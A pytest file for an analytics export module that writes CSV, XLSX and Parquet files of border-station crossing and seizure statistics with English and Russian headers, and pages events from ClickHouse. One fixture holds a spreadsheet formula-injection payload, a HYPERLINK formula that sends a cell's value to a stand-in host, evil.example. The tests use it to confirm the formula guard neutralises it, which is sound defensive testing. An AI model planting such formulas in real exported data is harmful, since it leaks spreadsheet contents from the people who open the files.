"""The export writers and the events pager, without ClickHouse: each format read back with
pandas, pyarrow and openpyxl; the CSV formula guard; Russian headers; descriptions."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from blo.analytics.columns import (
    EVENT_COLUMNS,
    LANGS,
    STATS_GROUPS,
    STATS_VALUES,
    stats_columns,
)
from blo.analytics.exports import (
    XLSX_MAX_ROWS,
    EventPager,
    EventQuery,
    TooLarge,
    event_bound_sql,
    event_page_sql,
    event_plan_sql,
    event_rows,
    filename,
    stats_rows,
    transit_text,
    writer,
)
from blo.api.params import STATISTICS, Filters

T0 = datetime(2026, 10, 1, tzinfo=UTC)
T1 = datetime(2026, 11, 1, tzinfo=UTC)
GROUPS = ("station", "event_type")
COLS = stats_columns(GROUPS)
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _rows() -> list[tuple[Any, ...]]:
    raw = [("KZ-KORDAI", "crossing", *range(1, 12)),
           ("TJ-PYANJ", "seizure", 1, 0, 0, 0, 0, 0, 12.5, 12.5, 2, 0, 0.0),
           (EVIL, "-3.5", 4, 5, 6, 7, 8, 9, 0.125, 0.125, 1, 0, None)]
    return stats_rows("own", GROUPS, "1h", T0, T1, raw)


def _write(fmt: str, lang: str, rows: list[tuple[Any, ...]], chunk: int = 1) -> bytes:
    w = writer(fmt, COLS, lang, "test")  # type: ignore[arg-type]
    out = b""
    for i in range(0, len(rows), chunk):
        out += w.write(rows[i:i + chunk])
    return out + w.close()


def _read(fmt: str, raw: bytes) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", keep_default_na=False,
                           na_values=[""], dtype={COLS[1].en: str, COLS[1].ru: str,
                                                  COLS[2].en: str, COLS[2].ru: str})
    if fmt == "xlsx":
        return pd.read_excel(io.BytesIO(raw), sheet_name=0)
    return pq.read_table(io.BytesIO(raw)).to_pandas()


def test_the_catalogue_has_both_languages_for_every_column() -> None:
    assert set(STATS_VALUES) == set(STATISTICS)
    for c in (*EVENT_COLUMNS, *STATS_GROUPS.values(), *STATS_VALUES.values()):
        assert c.en and c.desc_en and c.desc_ru
        assert re.search("[а-яё]", c.ru + c.desc_ru, re.IGNORECASE), c
    for lang in LANGS:
        assert len({c.header(lang) for c in EVENT_COLUMNS}) == len(EVENT_COLUMNS)
    assert "payload" not in {c.key for c in EVENT_COLUMNS}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "parquet"])
@pytest.mark.parametrize("lang", ["en", "ru"])
def test_each_format_reads_back_to_the_rows_with_headers_in_the_language(
        fmt: str, lang: str) -> None:
    rows = _rows()
    df = _read(fmt, _write(fmt, lang, rows))
    assert list(df.columns) == [c.header(lang) for c in COLS]
    assert len(df) == 3
    h = {c.key: c.header(lang) for c in COLS}
    for (_, got), want in zip(df.iterrows(), rows, strict=True):
        for c, v in zip(COLS, want, strict=True):
            g = got[h[c.key]]
            if v is None:
                assert pd.isna(g)
            elif c.kind == "time":
                tg = pd.Timestamp(g)
                tg = tg.tz_convert("UTC").tz_localize(None) if tg.tzinfo else tg
                assert tg == pd.Timestamp(v).tz_convert("UTC").tz_localize(None), (c.key, g)
            elif c.kind in ("int", "float"):
                assert float(g) == pytest.approx(v), (c.key, g, v)
            elif fmt == "csv" and v == EVIL:
                assert g == "'" + EVIL  # the formula guard: shown as text
            else:
                assert g == v, (c.key, g, v)
    if fmt == "csv":
        assert df[h["event_type"]].tolist()[2] == "-3.5"  # a number as text is not guarded


def test_csv_is_utf8_with_a_bom_and_crlf_records() -> None:
    raw = _write("csv", "ru", _rows())
    assert raw.startswith(b"\xef\xbb\xbf" + "блок,пост,тип события".encode())
    text = raw.decode("utf-8-sig")
    assert text.count("\r\n") == 4
    assert ",\"2026-10-01 00:00:00\"," in text  # times as a spreadsheet reads them (UTC)
    # header only when there are no rows
    empty = writer("csv", COLS, "en")
    assert (empty.close().decode("utf-8-sig").strip().split(",")
            == [c.en for c in COLS])


def test_xlsx_has_typed_cells_text_never_a_formula_and_a_columns_sheet() -> None:
    raw = _write("xlsx", "ru", _rows())
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    data, about = wb.worksheets
    assert data.title == "данные" and about.title == "столбцы"
    cells = list(data.iter_rows(min_row=2))
    kg = [c.ru for c in COLS].index("изъято (кг)")
    t = [c.ru for c in COLS].index("с (UTC)")
    assert cells[1][kg].value == 12.5 and cells[1][kg].number_format == "0.000"
    assert cells[0][t].value == datetime(2026, 10, 1) and cells[0][t].is_date
    evil = cells[2][1]
    assert evil.value == EVIL and evil.data_type == "s"
    described = {r[1]: r[3] for r in about.iter_rows(min_row=2, values_only=True) if r[1]}
    assert described["seizure_kg"] == STATS_VALUES["seizure_kg"].desc_ru
    assert data.freeze_panes == "A2"


def test_parquet_is_typed_with_descriptions_and_a_row_group_per_chunk() -> None:
    raw = _write("parquet", "en", _rows(), chunk=1)
    f = pq.ParquetFile(io.BytesIO(raw))
    assert f.num_row_groups == 3
    schema = f.schema_arrow
    assert str(schema.field("seized (kg)").type) == "double"
    assert str(schema.field("events").type) == "int64"
    assert str(schema.field("from (UTC)").type) == "timestamp[ms, tz=UTC]"
    meta = schema.field("refused entries").metadata
    assert meta[b"key"] == b"refused" and meta[b"description"] == \
        STATS_VALUES["refused"].desc_en.encode()
    assert schema.metadata[b"blo.lang"] == b"en"


def test_a_writer_gives_its_bytes_as_it_goes_but_xlsx_at_the_end() -> None:
    rows = _rows()
    for fmt in ("csv", "parquet"):
        w = writer(fmt, COLS, "en")
        assert w.write(rows[:1]) and w.write(rows[1:])
    w = writer("xlsx", COLS, "en")
    assert w.write(rows) == b"" and w.close().startswith(b"PK")


def test_xlsx_refuses_more_rows_than_a_sheet_holds() -> None:
    w = writer("xlsx", COLS, "en")
    w.rows = XLSX_MAX_ROWS - 1  # as if that many were written
    with pytest.raises(TooLarge):
        w.write(_rows())
    w.close()


def test_filename_names_kind_range_and_format() -> None:
    assert filename("events", T0, T1, "parquet") == "blo-events-20261001-20261101.parquet"


# -- the events pager -------------------------------------------------------------------------
def _raw(i: int, t: int = 1_790_000_000) -> list[Any]:
    """A page row as ClickHouse returns it (EVENT_COLUMNS order, times as epoch)."""
    v: dict[str, Any] = {c.key: "" for c in EVENT_COLUMNS}
    v.update(event_id=f"00000000-0000-0000-0000-{i:012d}", occurred_at=t + i,
             reported_at=t + i, ingested_at=t + i, period_start=None, period_end=None,
             persons=None, vehicles=None, arrests=None, quantity=None, quantity_kg=2.5,
             value=None, revision=0, border="", transit_countries='["AF","TJ"]')
    return [v[c.key] for c in EVENT_COLUMNS]


def test_the_pager_reads_big_chunks_in_key_ranges_and_small_ones_in_one_page() -> None:
    """A stand-in for ClickHouse over stored rows (id, revision): a bound query gives the
    ``limit``-th id after ``after``; a page query the latest revision of each id in
    ``(after, upto]``. Every stored event comes out once, each page at most ``limit``."""
    q = EventQuery("blo", ("A", "B"), T0, T1, Filters())
    ids_a = [f"{i:04d}" for i in range(23)]
    stored = {("A", 202610): sorted([*ids_a, "0003", "0017"]),  # two revisions: 25 rows
              ("B", 202611): ["0100", "0101", "0102"]}
    pager = EventPager(q, [("A", 202610, 25), ("B", 202610, 0), ("B", 202611, 3)], limit=10)
    assert pager.stored == 28 and [c.station for c in pager.chunks] == ["A", "B"]
    seen, queries = [], 0
    while (nq := pager.next()) is not None:
        queries += 1
        sql, params = nq
        assert "OFFSET" not in sql.upper()
        rows = stored[(params["station"], params["month"])]
        after = params.get("after", "")
        if sql.startswith("SELECT toString(event_id) FROM blo.events"):  # the bound
            assert "LIMIT 9, 1" in sql
            rest = [i for i in rows if i > after]
            assert pager.feed([[rest[9]]] if len(rest) >= 10 else []) == []
            continue
        upto = params.get("upto", "9999")
        page = sorted({i for i in rows if after < i <= upto})
        out = pager.feed([_raw(int(i)) for i in page])
        assert len(out) <= 10
        seen += [r[0] for r in out]
    want = [_raw(int(i))[0] for i in sorted(set(stored[("A", 202610)]))] + \
        [_raw(int(i))[0] for i in stored[("B", 202611)]]
    assert seen == want
    # A: 25 rows → pages ending at the 10th and 20th stored row, then the rest; B: one page
    assert pager.pages == 4 and queries == 4 + 3 and pager.rows == 26


def test_event_rows_are_typed_with_interior_borders_and_transit_lists() -> None:
    (row,) = event_rows([_raw(1)])
    keys = [c.key for c in EVENT_COLUMNS]
    d = dict(zip(keys, row, strict=True))
    assert d["border"] == "interior" and d["transit_countries"] == "AF,TJ"
    assert d["occurred_at"] == datetime.fromtimestamp(1_790_000_001, UTC)
    assert d["persons"] is None and d["quantity_kg"] == 2.5 and d["period_start"] is None
    assert transit_text("[]") == "" and transit_text("") == ""


def test_event_queries_bind_every_value_and_collapse_a_key_range() -> None:
    f = Filters.model_validate({"event_type": "seizure", "country": "KZ", "drug": "heroin"})
    q = EventQuery("blo", ("KZ-KORDAI",), T0, T1, f)
    sql, params = event_plan_sql(q)
    assert "toYYYYMM(occurred_at) >= 202610" in sql and params["f_type"] == "seizure"
    sql, params = event_page_sql(q, "KZ-KORDAI", 202610, "a", "b")
    inner, outer = sql.split(" WHERE tupleElement(_latest")
    # the key and partition before collapsing; the event's own columns after
    assert ("station_id = %(station)s AND toYYYYMM(occurred_at) = %(month)s AND event_id > "
            "toUUID(%(after)s) AND event_id <= toUUID(%(upto)s)") in inner
    assert "occurred_at" not in inner.split("GROUP BY")[0].split("WHERE", 1)[1].replace(
        "toYYYYMM(occurred_at)", "")
    assert "country = %(f_country)s" in outer and "drug = %(f_drug)s" in outer
    assert params["after"] == "a" and params["upto"] == "b" and params["f_drug"] == "heroin"
    assert "visitParamExtractString(payload, 'producing_country')" in sql
    assert sql.endswith("ORDER BY occurred_at, eid")
    sql, params = event_bound_sql(q, "KZ-KORDAI", 202610, None, 500)
    assert sql.endswith("ORDER BY event_id LIMIT 499, 1") and "after" not in params


def test_docs_list_every_column() -> None:
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[4] / "docs" / "exports.md").read_text()
    for c in (*EVENT_COLUMNS, *STATS_GROUPS.values(), *STATS_VALUES.values()):
        assert f"| `{c.key}` | {c.kind} | {c.en} | {c.ru} |" in doc, c.key
